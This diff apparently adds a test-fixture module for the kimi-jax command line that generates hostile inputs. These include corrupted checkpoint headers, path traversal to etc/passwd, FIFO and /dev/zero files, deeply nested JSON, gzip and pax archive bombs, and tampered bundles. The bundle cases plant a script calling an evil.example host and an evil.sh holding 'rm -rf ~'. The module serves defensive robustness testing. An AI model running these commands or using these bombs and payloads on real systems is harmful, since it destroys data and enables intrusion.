@@ -1,0 +1,392 @@
+"""A corpus of hostile inputs, generated in the tests (nothing is stored) and kept small.
+
+Each :class:`Case` is one file or folder an attacker, or bad luck, hands to kimi-jax, the command
+line that reads it, and a part of the one-line error (or failed check) it must end in. The files
+are small: the archive bombs are concatenated gzip members of one compressed block of zeros, a
+few MB that expand to more than a GiB.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import gzip
+import io
+import json
+import math
+import os
+import shutil
+import struct
+import tarfile
+from pathlib import Path
+
+from kimi_jax.ledger.bundle import RECEIPT, bundle_digest
+from kimi_jax.ledger.checksums import write_checksums
+
+SHARD = "model-00001-of-000007.safetensors"
+BOMB_BYTES = 3 << 29  # 1.5 GiB: past every cap, and more than the memory bound to hold
+
+
+@dataclasses.dataclass(frozen=True)
+class Case:
+    name: str
+    argv: tuple[str, ...]
+    expect: str  # a part of the output it must end in
+    exit_codes: tuple[int, ...] = (2,)  # 2: a named error; 1: verify reports a FAILED check
+
+
+# -- checkpoints --------------------------------------------------------------------------------
+
+
+def checkpoint_like(ckpt: Path, dest: Path, keep_index: bool = True) -> Path:
+    """A checkpoint folder whose files are symbolic links to ``ckpt``'s (replace the ones to damage)."""
+    dest.mkdir(parents=True)
+    for path in ckpt.iterdir():
+        if keep_index or path.name != "model.safetensors.index.json":
+            (dest / path.name).symlink_to(path)
+    return dest
+
+
+def _rewrite_config(folder: Path, change) -> None:
+    raw = json.loads((folder / "config.json").read_text())
+    change(raw["text_config"])
+    (folder / "config.json").unlink()
+    (folder / "config.json").write_text(json.dumps(raw))
+
+
+def _rewrite_index(folder: Path, change) -> None:
+    raw = json.loads((folder / "model.safetensors.index.json").read_text())
+    change(raw)
+    (folder / "model.safetensors.index.json").unlink()
+    (folder / "model.safetensors.index.json").write_text(json.dumps(raw))
+
+
+def read_header(path: Path) -> tuple[dict, bytes]:
+    data = path.read_bytes()
+    (n,) = struct.unpack("<Q", data[:8])
+    return json.loads(data[8 : 8 + n]), data[8 + n :]
+
+
+def write_shard_raw(path: Path, header: dict, body: bytes) -> None:
+    blob = json.dumps(header).encode()
+    blob += b" " * (-len(blob) % 8)
+    if path.is_symlink():
+        path.unlink()
+    path.write_bytes(struct.pack("<Q", len(blob)) + blob + body)
+
+
+def _damage_shard(folder: Path, change) -> None:
+    header, body = read_header(folder / SHARD)
+    body = change(header, body)
+    write_shard_raw(folder / SHARD, header, body)
+
+
+def _by_offset(header: dict) -> list[str]:
+    return sorted((k for k in header if k != "__metadata__"), key=lambda k: header[k]["data_offsets"][0])
+
+
+def _overlap(header: dict, body: bytes) -> bytes:
+    first, second = _by_offset(header)[:2]
+    size = header[second]["data_offsets"][1] - header[second]["data_offsets"][0]
+    header[second]["data_offsets"] = [0, size]
+    return body
+
+
+def _gap(header: dict, body: bytes) -> bytes:
+    last = _by_offset(header)[-1]
+    header[last]["data_offsets"] = [o + 8 for o in header[last]["data_offsets"]]
+    return body + bytes(8)
+
+
+def _negative(header: dict, body: bytes) -> bytes:
+    first = _by_offset(header)[0]
+    begin, end = header[first]["data_offsets"]
+    header[first]["data_offsets"] = [begin - (end - begin), begin]
+    return body
+
+
+def _shape_mismatch(header: dict, body: bytes) -> bytes:
+    first = _by_offset(header)[0]
+    header[first]["shape"] = [d + 1 for d in header[first]["shape"]]
+    return body
+
+
+def _dtype_list(header: dict, body: bytes) -> bytes:
+    header[_by_offset(header)[0]]["dtype"] = ["F32"]
+    return body
+
+
+def _deep_config(folder: Path) -> None:
+    (folder / "config.json").unlink()
+    (folder / "config.json").write_text("[" * 100_000 + "]" * 100_000)
+
+
+def _config_folder(folder: Path) -> None:
+    (folder / "config.json").unlink()
+    (folder / "config.json").mkdir()
+
+
+def _non_utf8_config(folder: Path) -> None:
+    (folder / "config.json").unlink()
+    (folder / "config.json").write_bytes(b'{"text_config": "\xff\xfe"}')
+
+
+def _fifo(path: Path) -> None:
+    if path.is_symlink() or path.exists():
+        path.unlink()
+    os.mkfifo(path)
+
+
+OUTSIDE = "../" * 40 + "etc/passwd"  # from any folder, enough ../ to reach /
+
+
+def _outside(folder: Path) -> None:
+    _rewrite_index(folder, lambda raw: raw["weight_map"].update({"language_model.lm_head.weight": OUTSIDE}))
+
+
+def _zero_shard(folder: Path) -> None:
+    (folder / "zero.safetensors").symlink_to("/dev/zero")
+    _rewrite_index(folder, lambda raw: raw["weight_map"].update({"language_model.lm_head.weight": "zero.safetensors"}))
+
+
+def _fifo_shard(folder: Path) -> None:
+    os.mkfifo(folder / "zz-fifo.safetensors")
+
+
+CHECKPOINT_DAMAGE = {
+    # name: (how, part of the error)
+    "num-hidden-layers-1e9": (lambda f: _rewrite_config(f, lambda t: t.update(num_hidden_layers=10**9)),
+                              "num_hidden_layers is 1000000000, but the shards hold tensors of 4 decoder layer(s)"),
+    "rms-norm-eps-nan": (lambda f: _rewrite_config(f, lambda t: t.update(rms_norm_eps=math.nan)),
+                         "field 'rms_norm_eps' must be a finite number, got nan"),
+    "rope-factor-string": (lambda f: _rewrite_config(f, lambda t: t["rope_scaling"].update(factor="abc")),
+                           "rope_scaling: field 'factor' must be an integer or a number, got 'abc'"),
+    "tie-embeddings-string": (lambda f: _rewrite_config(f, lambda t: t.update(tie_word_embeddings="false")),
+                              "field 'tie_word_embeddings' must be a boolean, got 'false'"),
+    "config-not-utf8": (_non_utf8_config, "config.json: not UTF-8 text"),
+    "config-deep": (_deep_config, "JSON nested too deeply"),
+    "config-is-a-folder": (_config_folder, "config.json is a folder; expected a regular file"),
+    "config-fifo": (lambda f: _fifo(f / "config.json"), "config.json is a FIFO; expected a regular file"),
+    "weight-map-list": (lambda f: _rewrite_index(f, lambda raw: raw.update(weight_map=list(raw["weight_map"]))),
+                        "expected a JSON object with a 'weight_map' object"),
+    "weight-map-outside": (_outside, f"{OUTSIDE!r}; expected a relative path inside the checkpoint folder"),
+    "weight-map-dev-zero": (_zero_shard, "zero.safetensors: shard is a character device; expected a regular file"),
+    "shard-fifo": (_fifo_shard, "zz-fifo.safetensors: shard is a FIFO; expected a regular file"),
+    "header-overlap": (lambda f: _damage_shard(f, _overlap), "tensors may not share bytes"),
+    "header-gap": (lambda f: _damage_shard(f, _gap), "belong to no tensor"),
+    "header-negative-offset": (lambda f: _damage_shard(f, _negative), "expected 0 <= begin <= end"),
+    "header-shape-size": (lambda f: _damage_shard(f, _shape_mismatch), "span"),
+    "header-dtype-list": (lambda f: _damage_shard(f, _dtype_list), "unsupported dtype ['F32']"),
+    "header-out-of-range": (lambda f: _damage_shard(f, lambda h, b: b[:-16]),
+                            "shard is truncated or its offsets are corrupt"),
+}  # fmt: skip
+
+
+def checkpoint_cases(ckpt: Path, tmp: Path) -> list[Case]:
+    cases = []
+    for name, (damage, expect) in CHECKPOINT_DAMAGE.items():
+        folder = checkpoint_like(ckpt, tmp / name, keep_index=name != "shard-fifo")
+        damage(folder)
+        cases.append(Case(f"checkpoint/{name}", ("inspect", str(folder)), expect))
+    return cases
+
+
+# -- manifests and run outputs -----------------------------------------------------------------
+
+
+def manifest_text(ckpt: Path, out: Path | str, extra: str = "") -> str:
+    return (f"version: 1\nmodel:\n  checkpoint: {ckpt}\nprompt:\n  tokens: [7]\ngenerate:\n  max_new_tokens: 1\n"
+            f"output:\n  dir: {out}\n{extra}")  # fmt: skip
+
+
+def manifest_cases(ckpt: Path, tmp: Path) -> list[Case]:
+    tmp.mkdir(parents=True)
+    cases = []
+    fifo = tmp / "fifo.yaml"
+    os.mkfifo(fifo)
+    cases.append(Case("manifest/fifo", ("run", str(fifo)), "manifest is a FIFO; expected a regular file"))
+    deep = tmp / "deep.yaml"
+    deep.write_text("version: 1\nprompt: " + "[" * 50_000 + "]" * 50_000 + "\n")
+    cases.append(Case("manifest/deep-yaml", ("run", str(deep)), "YAML nested too deeply"))
+    deeper = tmp / "deeper.yaml"
+    deeper.write_text(manifest_text(ckpt, tmp / "o", "vindex:\n  prompts: " + "[" * 40 + "]" * 40 + "\n"))
+    cases.append(Case("manifest/nested-past-limit", ("run", str(deeper)), "nested more than 16 levels deep"))
+    override = tmp / "ok.yaml"
+    override.write_text(manifest_text(ckpt, tmp / "o"))
+    cases.append(Case("manifest/deep-override", ("run", str(override), "--set", "prompt.tokens=" + "[" * 5000 + "]" * 5000),
+                      "nested too deeply"))  # fmt: skip
+    for name, anchor in (("dev-zero", "/dev/zero"), ("fifo", str(fifo))):
+        path = tmp / f"anchor-{name}.yaml"
+        path.write_text(manifest_text(ckpt, tmp / "o", f"anchor: {anchor}\n"))
+        kind = "a character device" if name == "dev-zero" else "a FIFO"
+        cases.append(Case(f"manifest/anchor-{name}", ("run", str(path)), f"anchor file is {kind}"))
+    thesis = tmp / "thesis"
+    thesis.mkdir()
+    (thesis / "ledger.json").write_text("{}")
+    (thesis / "chapter1.tex").write_text("years of work")
+    regular = tmp / "a-file"
+    regular.write_text("x")
+    for name, out, expect in (("root", "/", "output.dir is the filesystem root"),
+                              ("checkpoint", ckpt, "output.dir is inside the checkpoint folder"),
+                              ("holds-checkpoint", ckpt.parent, "output.dir holds the checkpoint"),
+                              ("not-a-bundle", thesis, "it is a non-empty folder that is not a kimi-jax bundle"),
+                              ("regular-file", regular, "it exists and is not a folder")):  # fmt: skip
+        path = tmp / f"out-{name}.yaml"
+        path.write_text(manifest_text(ckpt, out))
+        cases.append(Case(f"output/{name}", ("run", str(path)), expect))
+    return cases
+
+
+# -- bundles --------------------------------------------------------------------------------------
+
+
+def reseal(root: Path) -> None:
+    """What a forger does after editing a bundle: new CHECKSUMS.b3 and receipt bundle digest."""
+    write_checksums(root, exclude=(RECEIPT,))
+    receipt = json.loads((root / RECEIPT).read_text())
+    receipt["bundle_digest"] = bundle_digest(root)
+    (root / RECEIPT).write_text(json.dumps(receipt))
+
+
+def _planted_script(root: Path) -> None:
+    page = (root / "explorer.html").read_text(encoding="utf-8")
+    (root / "explorer.html").write_text(page.replace("</body>", "<script>fetch('//evil.example')</script></body>"),
+                                        encoding="utf-8")  # fmt: skip
+    reseal(root)
+
+
+def _evil_sh(root: Path) -> None:
+    (root / "evil.sh").write_text("#!/bin/sh\nrm -rf ~\n")
+    reseal(root)
+
+
+def _declared_logits(root: Path, length: int = 2**28) -> None:
+    """Rewrite step 0's logits metadata to declare ``length`` float32 values the tree does not hold."""
+    import tensorstore as ts
+
+    spec = {"driver": "zarr", "kvstore": {"driver": "ocdbt", "base": f"file://{root / 'arrays'}/",
+                                          "path": "step_00000.logits/"}}  # fmt: skip
+    meta = ts.open(spec, open=True).result().spec().to_json()["metadata"]
+    ts.open({**spec, "metadata": {**meta, "shape": [length], "chunks": [1 << 20]}}, create=True,
+            delete_existing=True).result()  # fmt: skip
+    reseal(root)
+
+
+def _ledger_text(root: Path, text: str) -> None:
+    (root / "ledger.json").write_text(text)
+    (root / "explorer.html").unlink()  # so explore renders one from the ledger
+    reseal(root)
+
+
+def _nan_ledger(root: Path) -> None:
+    ledger = json.loads((root / "ledger.json").read_text())
+    ledger["steps"][0]["entropy"] = math.nan
+    _ledger_text(root, json.dumps(ledger))
+
+
+def _no_steps(root: Path) -> None:
+    ledger = json.loads((root / "ledger.json").read_text())
+    ledger["steps"] = []
+    _ledger_text(root, json.dumps(ledger))
+
+
+BUNDLE_DAMAGE = {
+    # name: (how, [(command, part of the output, exit codes)])
+    "planted-script": (_planted_script, [("verify", "explorer.html: not the page rendered from ledger.json", (1,))]),
+    "evil-sh": (_evil_sh, [("verify", "evil.sh: not part of the bundle layout", (1,))]),
+    "declared-2**28-logits": (_declared_logits, [("verify", "logits declared with lengths", (1,))]),
+    "nan-ledger": (_nan_ledger, [("explore", "NaN is not a JSON number", (2,)), ("verify", "NaN is not", (1,)),
+                                 ("compare", "NaN is not a JSON number", (2,))]),
+    "no-steps": (_no_steps, [("explore", "the ledger has no steps to show", (2,)), ("verify", "steps", (1,)),
+                             ("compare", "does not validate against the ledger schema", (2,))]),
+    "deep-ledger": (lambda r: _ledger_text(r, "[" * 100_000 + "]" * 100_000),
+                    [("verify", "JSON nested too deeply", (1,)), ("compare", "JSON nested too deeply", (2,)),
+                     ("explore", "JSON nested too deeply", (2,))]),
+    "ledger-fifo": (lambda r: _fifo(r / "ledger.json"), [("verify", "ledger.json is a FIFO", (1,)),
+                                                         ("compare", "ledger.json is a FIFO", (2,))]),
+    "checksums-fifo": (lambda r: _fifo(r / "CHECKSUMS.b3"), [("verify", "CHECKSUMS.b3 is a FIFO", (1,))]),
+}  # fmt: skip
+
+
+def bundle_cases(bundle: Path, tmp: Path) -> list[Case]:
+    cases = []
+    for name, (damage, commands) in BUNDLE_DAMAGE.items():
+        root = Path(shutil.copytree(bundle, tmp / name))
+        damage(root)
+        for command, expect, codes in commands:
+            argv = {"verify": ("verify", str(root)), "compare": ("compare", str(bundle), str(root)),
+                    "explore": ("explore", str(root), "--no-browser")}[command]  # fmt: skip
+            cases.append(Case(f"bundle/{name}/{command}", argv, expect, codes))
+    return cases
+
+
+# -- archives -------------------------------------------------------------------------------------
+
+
+def _header(info: tarfile.TarInfo) -> bytes:
+    return info.tobuf(format=tarfile.GNU_FORMAT)
+
+
+def _zeros_gzip(nbytes: int) -> bytes:
+    """``nbytes`` zeros as concatenated gzip members (a gzip stream may hold several): one 16 MiB
+    block of zeros compresses to 16 KB, so a GiB costs 1 MB and almost no time to make."""
+    block = 16 << 20
+    member = gzip.compress(bytes(block), compresslevel=9, mtime=0)
+    whole, rest = divmod(nbytes, block)
+    return member * whole + (gzip.compress(bytes(rest), mtime=0) if rest else b"")
+
+
+def bomb_archive(path: Path, name: str = "bundle/ledger.json", size: int = BOMB_BYTES) -> Path:
+    """One member of ``size`` zero bytes: gzip(header) + gzip(zeros)... + gzip(end of archive)."""
+    info = tarfile.TarInfo(name)
+    info.size = size
+    pad = -size % 512
+    path.write_bytes(gzip.compress(_header(info), mtime=0) + _zeros_gzip(size + pad)
+                     + gzip.compress(bytes(1024), mtime=0))  # fmt: skip
+    return path
+
+
+def pax_bomb_archive(path: Path, size: int = BOMB_BYTES) -> Path:
+    """A pax extended header that declares ``size`` bytes of records (tarfile would read them all into memory)."""
+    info = tarfile.TarInfo("././@PaxHeader")
+    info.type = tarfile.XHDTYPE
+    info.size = size
+    path.write_bytes(gzip.compress(_header(info), mtime=0) + _zeros_gzip(size + (-size % 512))
+                     + gzip.compress(bytes(1024), mtime=0))  # fmt: skip
+    return path
+
+
+def sparse_archive(path: Path) -> Path:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
+        info = tarfile.TarInfo("bundle/ledger.json")
+        info.type = tarfile.GNUTYPE_SPARSE
+        info.size = 0
+        tar.addfile(info)
+    path.write_bytes(gzip.compress(buf.getvalue(), mtime=0))
+    return path
+
+
+def archive_cases(bundle: Path, tmp: Path) -> list[Case]:
+    tmp.mkdir(parents=True)
+    from kimi_jax.ledger.archive import archive_bundle
+
+    good = archive_bundle(bundle, tmp / "good.tar.gz")
+    truncated = tmp / "truncated.tar.gz"
+    truncated.write_bytes(good.read_bytes()[: len(good.read_bytes()) // 2])
+    flipped = tmp / "flipped.tar.gz"
+    data = bytearray(good.read_bytes())
+    data[len(data) // 3] ^= 0xFF
+    flipped.write_bytes(bytes(data))
+    return [
+        Case("archive/gzip-bomb", ("verify", str(bomb_archive(tmp / "bomb.tar.gz"))),
+             "expands past what a bundle can hold"),
+        Case("archive/pax-header-bomb", ("verify", str(pax_bomb_archive(tmp / "pax.tar.gz"))), "'x' header of"),
+        Case("archive/sparse-member", ("verify", str(sparse_archive(tmp / "sparse.tar.gz"))), "sparse file"),
+        Case("archive/truncated", ("verify", str(truncated)), "not a readable tar archive"),
+        Case("archive/flipped-byte", ("verify", str(flipped)), "not a readable tar archive"),
+    ]  # fmt: skip
+
+
+def all_cases(ckpt: Path, bundle: Path, tmp: Path) -> list[Case]:
+    return [*checkpoint_cases(ckpt, tmp / "ckpt"), *manifest_cases(ckpt, tmp / "manifests"),
+            *bundle_cases(bundle, tmp / "bundles"), *archive_cases(bundle, tmp / "archives")]  # fmt: skip
